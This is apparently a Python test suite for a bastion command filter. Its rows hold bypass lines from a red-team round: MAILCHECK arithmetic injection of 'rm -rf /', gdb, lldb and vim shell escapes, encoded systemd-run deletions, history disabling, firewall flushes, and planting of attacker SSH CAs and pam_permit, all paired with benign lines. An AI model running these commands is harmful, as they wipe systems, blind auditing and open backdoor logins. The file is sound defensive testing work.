"""Attack j19f (the nineteenth round on the command filter), findings 2, 3, 6, 8, 11 to 14: an
assignment bash evaluates as arithmetic (MAILCHECK, `declare -i` in every interactive bash), a
gdb command that runs another command (`frame apply all -q shell CMD` and its kin), systemd's
own expansions in systemd-run's command line and Exec*= properties, vim's `%`/`#` file names in
`:!` commands, `mv` of a system folder (its removal from where the system needs it), history
patterns that match every line, firewall openings spelled otherwise (RETURN in INPUT,
ebtables, arptables, ipset), and writes to the targets' own trust anchors (sshd's CA file,
configuration, principals). The tester's lines and their siblings, each held or refused now,
and the honest lines beside them that still run; the new shipped rules named by the lines they
are for."""

from bastion.command_control.policy.match import evaluate
from tests.rows import each
from tests.test_policy import action

HELD = ("deny", "confirm")
CMDS = ("rm -rf /", "systemctl stop auditd", "echo x >> /etc/sudoers")

# F2: MAILCHECK is `declare -i` in an interactive bash: every assignment form is arithmetic.
MAILCHECK_FORMS = [
    "MAILCHECK='a[$(@@)]'",
    "MAILCHECK+='a[$(@@)]'",
    "export MAILCHECK='a[$(@@)]'",
    "declare MAILCHECK='a[$(@@)]'",
    "typeset MAILCHECK='a[$(@@)]'",
    "declare -x MAILCHECK='a[$(@@)]'",
    "read MAILCHECK <<< 'a[$(@@)]'",
    "read -r MAILCHECK < /tmp/x",
    "printf -v MAILCHECK 'a[$(@@)]'",
    "for MAILCHECK in 'a[$(@@)]'; do :; done",
    "mapfile -t MAILCHECK <<< 'a[$(@@)]'",
    "x='a[$(@@)]'; MAILCHECK=x",
    "MAILCHECK=\"$x\"",
    "MAILCHECK='a[$(@@)]' ls",
    "declare -n r=MAILCHECK; r='a[$(@@)]'",
    "MAILCHECK[0]='a[$(@@)]'",
    "f() { local MAILCHECK='a[$(@@)]'; }; f",
    "readonly MAILCHECK='a[$(@@)]'",
    "MAILCHECK='a[$(@@)]' bash -i",
    # the other variables bash 5.2 evaluates on assignment (checked with a canary each)
    "OPTIND='a[$(@@)]'",
    "HISTCMD='a[$(@@)]'",
    "RANDOM='a[$(@@)]'",
    "SRANDOM='a[$(@@)]'",
]
F2 = [form.replace("@@", cmd) for form in MAILCHECK_FORMS for cmd in CMDS]
F2_EXEC = ["bash -ic \"MAILCHECK='a[\\$(rm -rf /)]'\"", "bash -i -c \"MAILCHECK='a[\\$(id)]'\""]

ROWS = F2 + F2_EXEC

# F3: a gdb (lldb) command that takes another command runs it: judged, never quiet.
ROWS += [
    "gdb -nx -batch -ex starti -ex 'frame apply all -q shell rm -rf /' /bin/true",
    "gdb -nx -batch -ex starti -ex 'f apply all -q shell systemctl stop auditd' /bin/true",
    "gdb -nx -batch -ex starti -ex 'frame apply all -q shell echo x >> /etc/sudoers' /bin/true",
    "gdb -nx -batch -ex starti -ex 'frame apply all -q pipe bt | rm -rf /' /bin/true",
    "gdb -p 1 -batch -ex 'frame apply all -q shell rm -rf /'",
    "gdb -batch -ex 'frame a all -q shell rm -rf /' -p 1",
    "gdb -batch -ex 'frame apply 1 shell rm -rf /' -p 1",
    "gdb -batch -ex 'frame apply level 0 shell rm -rf /' -p 1",
    "gdb -batch -ex 'frame level 0 shell rm -rf /' -p 1",
    "gdb -batch -eval-command='frame apply all shell rm -rf /' -p 1",
    "gdb -batch -ex 'thread apply 1 shell rm -rf /' -p 1",
    "gdb -batch -ex 'thread apply all -q shell rm -rf /' -p 1",
    "gdb -batch -ex 'taas shell rm -rf /' -p 1",
    "gdb -batch -ex 'tfaas shell rm -rf /' -p 1",
    "gdb -batch -ex 'faas shell rm -rf /' -p 1",
    "gdb -batch -ex 'with print pretty -- shell rm -rf /' -p 1",
    "gdb -batch -ex 'pipe bt | rm -rf /' -p 1",
    "gdb -batch -ex '| bt | rm -rf /' -p 1",
    "gdb -batch -ex 'define x' -p 1",
    "gdb -batch -ex 'python import os' -p 1",
    "gdb -batch -ex 'guile (system \"id\")' -p 1",
    "gdb -batch -ex 'source /tmp/x.gdb' -p 1",
    "gdb -batch -ex 'eval \"shell %s\", \"id\"' -p 1",
    "gdb -batch -ex 'alias bt2 = shell' -ex 'bt2 rm -rf /' -p 1",
    "gdb -batch -ex 'commands 1' -p 1",
    "lldb -b -o 'platform shell rm -rf /' -p 1",
    "lldb -b -o 'script import os' -p 1",
    "lldb -b -o 'command source /tmp/x' -p 1",
    "lldb -b -o 'command alias x platform shell' -p 1",
    "lldb -b -o 'breakpoint command add -o \"platform shell id\" 1' -p 1",
]
# F11: mv (and the renamers, mmv) takes its sources away: an rm -r of them, as gio move is.
ROWS += [
    "mv /bin /tmp/x", "mv /sbin /tmp/x", "mv /boot /tmp/x", "mv /root /tmp/x",
    "mv /home/alice /tmp/x", "mv /opt /tmp/x", "mv /srv /tmp/x", "mv /etc /etc.old",
    "mv /usr /x", "mv /var /x", "mv /lib /x", "mv /home /tmp/x", "mv ~ /tmp/x",
    "mv -t /tmp /bin /sbin /boot", "sudo mv /bin /bin.old", "mv --target-directory=/tmp /boot",
    "find / -maxdepth 1 -name sbin -exec mv {} /tmp/x \\;", "mv -T /bin /tmp/x", "mv /bin/ /tmp/x",
    "mv //bin /tmp/x", "mv /./bin /tmp/x", "mv /b* /tmp/x", "mv /e?c /tmp/x", "mv /home/* /tmp/x",
    "mv --exchange /tmp/e /bin", "busybox mv /bin /x", "cd / && mv bin x", "cd /usr && mv ../bin x",
    "rename.ul bin old /bin", "rename 's/bin/old/' /bin", "rename -e 's/bin/old/' /bin",
    "mmv /bin /x", "mmv '/b*' '/x#1'", "mv ~alice /tmp/x", "mv -- /bin /tmp/x",
    "mv -bf /sbin /tmp/x", "gio rename /bin old", "gio move /bin /tmp/x",
]
# F12: history patterns that match every line, and a history file bash cannot write.
ROWS += [
    "HISTIGNORE='[ -~]*'", "HISTIGNORE='[[:print:]]*'", "export HISTIGNORE='[ -~]*'",
    "declare -x HISTIGNORE='[[:graph:][:space:]]*'", "HISTIGNORE='*[a-z]*'", "HISTIGNORE='ls:[ -~]*'",
    "HISTIGNORE='[!x]*'", "HISTIGNORE='[^x]*'", "HISTIGNORE='[]a-z]*'", "HISTIGNORE='@(*)'",
    "HISTIGNORE='!(x)'", "HISTIGNORE='*(?)'", "printf -v HISTIGNORE '[ -~]*'", "HISTIGNORE='?*'",
    "HISTIGNORE=\"$x\"", "HISTFILE=/", "HISTFILE=/tmp", "HISTFILE=/tmp/", "HISTFILE=/root",
    "HISTFILE=.", "HISTFILE=~", "export HISTFILE=/var/tmp", "HISTFILE=/etc/", "HISTFILE=..",
]
# F13: firewall openings spelled otherwise.
ROWS += [
    "iptables -I INPUT -j RETURN", "iptables -I INPUT 1 -j RETURN", "ip6tables -A INPUT -j RETURN",
    "iptables -I FORWARD -j RETURN", "iptables -t filter -A INPUT -j RETURN",
    "iptables -A INPUT -jRETURN", "iptables-nft -I INPUT -j RETURN",
    "iptables --insert INPUT --jump RETURN", "iptables -D INPUT -j DROP", "iptables -D INPUT 5",
    "iptables -DINPUT 5", "iptables --delete INPUT -j REJECT",
    "ebtables -F", "ebtables --flush", "ebtables -t nat -F", "ebtables --init-table",
    "ebtables -P INPUT ACCEPT", "ebtables -P FORWARD ACCEPT", "ebtables -A INPUT -j ACCEPT",
    "ebtables-restore < /tmp/x", "ebtables --atomic-commit --atomic-file /tmp/x", "arptables -F",
    "arptables -P INPUT ACCEPT", "arptables-nft -F", "ebtables-nft -F", "arptables-restore < x",
    "ipset flush", "ipset flush f2b-sshd", "ipset -F", "ipset destroy", "ipset x f2b-sshd",
    "ipset -X", "ipset del f2b-sshd 1.2.3.4", "ipset swap a b", "ipset restore < /tmp/x",
    "ipset -! restore < /tmp/x", "ipset -", "nft flush set inet f2b addr-set-sshd",
    "nft delete set inet f2b addr-set-sshd", "nft delete element inet f2b s '{ 1.2.3.4 }'",
    "nft insert rule inet filter input return", "nft add rule inet filter input counter return",
    "ufw delete deny 22", "ufw delete 1", "ufw --force delete 3", "ufw delete reject from 1.2.3.4",
]
# F14: the targets' own trust anchors (sshd's CA, configuration, principals; PAM), and a second
# SSH server started from the line.
ROWS += [
    "echo 'ssh-ed25519 AAAA attacker CA' >> /etc/ssh/bastion_target_ca.pub",
    "cp /tmp/my_ca.pub /etc/ssh/bastion_target_ca.pub",
    "echo 'TrustedUserCAKeys /tmp/my_ca.pub' > /etc/ssh/sshd_config.d/00-x.conf",
    "echo 'web01:root' >> /etc/ssh/principals/alice",
    "echo 'AuthorizedPrincipalsFile none' >> /etc/ssh/sshd_config",
    "echo 'PasswordAuthentication yes' >> /etc/ssh/sshd_config",
    "sed -i 's/^AuthorizedKeysFile none/AuthorizedKeysFile .ssh\\/authorized_keys/' /etc/ssh/sshd_config",
    "sed -i 's/no/yes/' /etc/ssh/sshd_config", "sed --in-place 's/no/yes/' /etc/ssh/sshd_config",
    "perl -pi -e 's/no/yes/' /etc/ssh/sshd_config",
    "tee -a /etc/ssh/sshd_config <<< 'PermitRootLogin yes'",
    "mv /tmp/x.conf /etc/ssh/sshd_config.d/", "rm /etc/ssh/sshd_config.d/50-bastion.conf",
    "ln -sf /tmp/ca /etc/ssh/bastion_target_ca.pub", "cp -s /tmp/ca /etc/ssh/bastion_target_ca.pub",
    "chmod 666 /etc/ssh/bastion_target_ca.pub", "vim /etc/ssh/sshd_config",
    "nano /etc/ssh/sshd_config.d/x.conf", "sudoedit /etc/ssh/sshd_config",
    "mount --bind /tmp/ssh /etc/ssh", "echo 'auth sufficient pam_permit.so' > /etc/pam.d/sshd",
    "cd /etc/ssh && echo x >> sshd_config", "install -m 644 /tmp/ca /etc/ssh/bastion_target_ca.pub",
    "dd of=/etc/ssh/sshd_config if=/tmp/x", "mv /etc/ssh /tmp/x", "sshd -t -E /etc/ssh/sshd_config",
    "tar -xf /tmp/x.tar -C /etc/ssh", "unzip /tmp/x.zip -d /etc/ssh", "rsync -a /tmp/ssh/ /etc/ssh/",
    "curl -o /etc/ssh/bastion_target_ca.pub http://x/ca", "wget -O /etc/ssh/sshd_config http://x/c",
    "/usr/sbin/sshd -p 2222 -o AuthorizedKeysFile=/tmp/k", "sshd -f /tmp/cfg", "dropbear -p 2222",
]
# F8: vim's `%`, `#`, `<cfile>` and `!` in a `:!` command are filled in by vim.
ROWS += [
    "vim -c '!rm -rf %' /etc", "vim -c '!rm -rf %' /", "vim -c '!rm -rf %:h' /etc/x",
    "vim -c '!rm -rf %:h:h' /usr/bin/x", "vim -c '!echo x >> %:h/sudoers' /etc/x",
    "vim -c '!cp /tmp/x %:h/sudoers' /etc/x", "vim -c '!truncate -s0 %' /var/log/auth.log",
    "vim -c '!shred -u %' /var/log/audit/audit.log", "vim -c '!rm -rf %:r' /etc.x",
    "vim +'!rm -rf %:h' /etc/x", "ex -c '!rm -rf %:h' /etc/x", "view -c '!rm -rf %:h' /etc/x",
    "nvim -c '!rm -rf %:h' /etc/x", "vim -c '!touch /tmp/a' -c '!!b' /tmp/x",
    "vim -c '!rm -rf <cfile>' /etc/x", "vim -c '!rm -rf #' /etc/x /etc", "vim -c '!rm -rf ##' /etc /x",
    "nvi -c '!rm -rf %' /etc", "vim -c ':!rm -rf %' /etc",
    "ed -s /etc/x <<< '!rm -rf %'", "ex -s /etc/x <<< '!rm -rf %:h'", "vim -es /etc/x <<< '!rm -rf %:h'",
    "less +'!rm -rf %' /etc/x", "vim -c 'e /etc/x' -c '!rm -rf %:h'",
]
# F6: systemd's own expansions in systemd-run's (and run0's) command line and Exec*= values.
ROWS += [
    "systemd-run -E X=/ /bin/rm -rf '${X}'", "systemd-run -E X=/ /bin/rm -rf '$X'",
    "systemd-run --setenv=X=/ rm -rf '${X}'", "systemd-run -p 'Environment=X=/' /bin/rm -rf '${X}'",
    "systemd-run -E A=/etc/sudoers cp /tmp/x '${A}'", "systemd-run -E A=/etc/sudoers tee -a '${A}'",
    "systemd-run -p 'ExecStartPre=/bin/rm -rf \\x2f' true",
    "systemd-run -p 'ExecStartPre=/bin/rm -rf \\057' true",
    "systemd-run -p 'ExecStartPre=/bin/rm -rf \\u002f' true",
    "systemd-run -p 'ExecStartPre=/usr/bin/systemctl st\\x6fp auditd' true",
    "systemd-run -p 'ExecStartPre=/bin/sh -c \"echo x \\x3e\\x3e /etc/sudoers\"' true",
    "systemd-run --timer-property='ExecStartPre=/bin/rm -rf \\x2f' --on-active=1 true",
    "systemd-run -p 'ExecStopPost=/bin/rm -rf ${X}' -E X=/ true",
    "systemd-run --scope -E X=/ rm -rf '$X'", "systemd-run -p 'ExecStartPre=/bin/rm -rf %h' true",
    "run0 --setenv=X=/ rm -rf '${X}'", "run0 --property='ExecStartPre=/bin/rm -rf /' true",
]
HONEST = [
    # F2
    "MAILCHECK=60", "export MAILCHECK=0", "echo $MAILCHECK", "OPTIND=1",
    # F3 (a batch attach only shows with -nx: an init file may run, attack z35f 7)
    "gdb -batch -nx -ex 'frame 1' -ex bt -p 1", "gdb -batch -nx -ex 'f 0' -ex 'info frame' -p 1",
    "gdb -batch -nx -ex frame -p 1", "gdb -batch -nx -ex 'frame level 1' -ex 'frame function main' -p 1",
    "gdb -batch -nx -ex 'thread apply all bt' -p 1", "lldb -b -x -o 'thread backtrace all' -p 1",
    # F6
    "systemd-run --on-active=30 /usr/bin/systemctl restart nginx",
    "systemd-run --scope -p MemoryMax=1G make -j4", "systemd-run -p 'ExecStartPre=/bin/echo hi' true",
    "run0 systemctl restart nginx",
    # F8
    "vim -c '!ls' /tmp/x", "vim -c 'set nu' /tmp/x", "vim +10 /tmp/x", "vim -c '!make' /tmp/x",
    # F11
    "mv /tmp/a /tmp/b", "mv *.log old/", "mv x.conf /etc/nginx/", "mv /home/alice/x.txt /tmp/",
    "mv /opt/app/old /opt/app/new", "mv -t /tmp a b", "mv /tmp/x /opt/", "mv a b",
    "mv -v ./build ./build.old", "mv --exchange a b", "rename.ul .txt .bak a.txt b.txt",
    "rename s/a/b/ /tmp/a", "mcp /bin /x",
    # F12
    "HISTIGNORE='ls:bg:fg:history'", "HISTIGNORE='&:ls:[bf]g:exit'", "HISTIGNORE=' *'",
    "HISTIGNORE='ls *:[bf]g'", "HISTCONTROL=ignoreboth", "HISTFILE=~/.bash_history_proj",
    "HISTFILE=/tmp/myhist", "export HISTFILE=/home/alice/.hist",
    # F13
    "iptables -A INPUT -p tcp --dport 22 -j RETURN", "iptables -A INPUT -s 10.0.0.0/8 -j RETURN",
    "iptables -D INPUT -s 1.2.3.4 -j DROP", "iptables -D INPUT -p tcp --dport 80 -j ACCEPT",
    "iptables -A mychain -j RETURN", "iptables -D mychain 1", "iptables -L INPUT", "ebtables -L",
    "arptables -L", "ipset list", "ipset add f2b-sshd 1.2.3.4", "ipset create blocklist hash:ip",
    "ipset test blocklist 1.2.3.4", "nft list ruleset", "nft add element inet f2b s '{ 1.2.3.4 }'",
    "nft add rule inet filter input ip saddr 1.2.3.4 drop", "ufw delete allow 80", "ufw status numbered",
    # F14
    "cat /etc/ssh/sshd_config", "grep -r PermitRootLogin /etc/ssh/", "sshd -t", "sshd -T",
    "/usr/sbin/sshd -t -f /etc/ssh/sshd_config", "ls -la /etc/ssh/", "less /etc/pam.d/sshd",
    "cp /etc/ssh/sshd_config /tmp/", "vim /etc/nginx/nginx.conf", "sudo cat /etc/ssh/sshd_config",
    "sudo sshd -t", "sudo ls /etc/ssh", "sudo less /etc/pam.d/sshd",
]


@each("line", ROWS)
def test_attack_j19f_b_lines_are_held_or_refused(default_policy, line):
    assert action(default_policy, line) in HELD


@each("line", ROWS)
def test_attack_j19f_b_lines_are_held_as_exec_commands(default_policy, line):
    verdict = evaluate(default_policy, line, role="engineer", target="web01", login="root",
                       interactive=False)
    assert verdict.action in HELD


@each("line", HONEST)
def test_attack_j19f_b_honest_lines_run(default_policy, line):
    assert action(default_policy, line) == "allow"


@each(("line", "verdict", "rule"), [
    ("mv /bin /tmp/x", "deny", "no-root-wipe"),
    ("rename.ul bin old /bin", "deny", "no-root-wipe"),
    ("HISTIGNORE='[[:print:]]*'", "deny", "no-history-ignore-wildcards"),
    ("HISTFILE=/tmp", "deny", "no-history-to-folder"),
    ("iptables -I INPUT -j RETURN", "confirm", "confirm-firewall-accept-rule"),
    ("iptables -D INPUT 5", "confirm", "confirm-firewall-accept-rule"),
    ("nft insert rule inet filter input return", "confirm", "confirm-nft-accept-rule"),
    ("ebtables -F", "deny", "no-bridge-arp-firewall-flush"),
    ("arptables -P INPUT ACCEPT", "confirm", "confirm-bridge-arp-firewall-open"),
    ("ebtables-restore < /tmp/x", "confirm", "confirm-bridge-arp-firewall-restore"),
    ("ipset flush", "confirm", "confirm-firewall-set-change"),
    ("nft flush set inet f2b addr-set-sshd", "confirm", "confirm-nft-set-change"),
    ("ufw delete 1", "confirm", "confirm-ufw-delete-deny"),
    ("echo KEY >> /etc/ssh/bastion_target_ca.pub", "confirm", "confirm-login-trust-writes"),
    ("cp -s /tmp/ca /etc/ssh/bastion_target_ca.pub", "confirm", "confirm-login-trust-links"),
    ("sed -i s/no/yes/ /etc/ssh/sshd_config", "confirm", "confirm-login-trust-sed"),
    ("sed --in-place s/no/yes/ /etc/ssh/sshd_config", "confirm", "confirm-login-trust-sed-long"),
    ("vim /etc/ssh/sshd_config", "confirm", "confirm-login-trust-edit"),
    ("sshd -p 2222 -o AuthorizedKeysFile=/tmp/k", "confirm", "confirm-other-ssh-server"),
    ("MAILCHECK='a[$(rm -rf /)]'", "confirm", "defaults.unknown"),
    # the attach to PID 1 with a shell command is also a stop of init (attack v31f, 21)
    ("gdb -p 1 -batch -ex 'frame apply all -q shell rm -rf /'", "confirm", "confirm-init-signal"),
    ("systemd-run -E X=/ rm -rf '${X}'", "confirm", "defaults.unknown"),
    ("vim -c '!rm -rf %:h' /etc/x", "confirm", "defaults.unknown"),
])
def test_attack_j19f_b_each_line_meets_the_rule_written_for_it(default_policy, line, verdict, rule):
    found = evaluate(default_policy, line, role="engineer", target="web01", login="root")
    assert (found.action, found.rule) == (verdict, rule)
